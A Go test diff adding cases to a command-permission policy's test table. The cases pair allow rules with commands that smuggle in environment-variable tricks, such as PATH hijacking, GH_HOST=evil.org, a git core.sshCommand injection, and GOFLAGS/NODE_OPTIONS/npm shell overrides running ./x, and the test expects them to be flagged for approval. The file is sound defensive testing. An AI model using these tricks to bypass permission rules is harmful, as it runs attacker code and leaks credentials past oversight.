@@ -128,6 +128,15 @@ func TestTheOwnRuleOfAPersonVouchesForWhatIsSent(t *testing.T) {
 		{"sudo apt *", "sudo apt update", policy.Ask},
 		{"rm -rf /", "rm -rf /", policy.Deny},
 		{"gh pr create *", "gh pr create -F .env", policy.Ask},
+		{"gh pr create *", "PATH=.:$PATH gh pr create --fill", policy.Ask},
+		{"gh pr create *", "export PATH=.; gh pr create --fill", policy.Ask},
+		{"gh pr create *", "env GH_HOST=evil.org gh pr create --fill", policy.Ask},
+		{"git push *", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=./x git push", policy.Ask},
+		{"go test *", "GOFLAGS=-exec=./x go test ./...", policy.Ask},
+		{"npm run lint", "NODE_OPTIONS=--require=./y.js npm run lint", policy.Ask},
+		{"npm run lint", "export npm_config_script_shell=./x; npm run lint", policy.Ask},
+		{"gh pr create *", "CI=1 NO_COLOR=1 gh pr create --fill", policy.Allow},
+		{"GOFLAGS=-count=1 go test ./...", "GOFLAGS=-count=1 go test ./...", policy.Allow},
 	} {
 		run := run(tt.line)
 		flag, err := rule.ParseSpec("bash(" + tt.rule + ")")
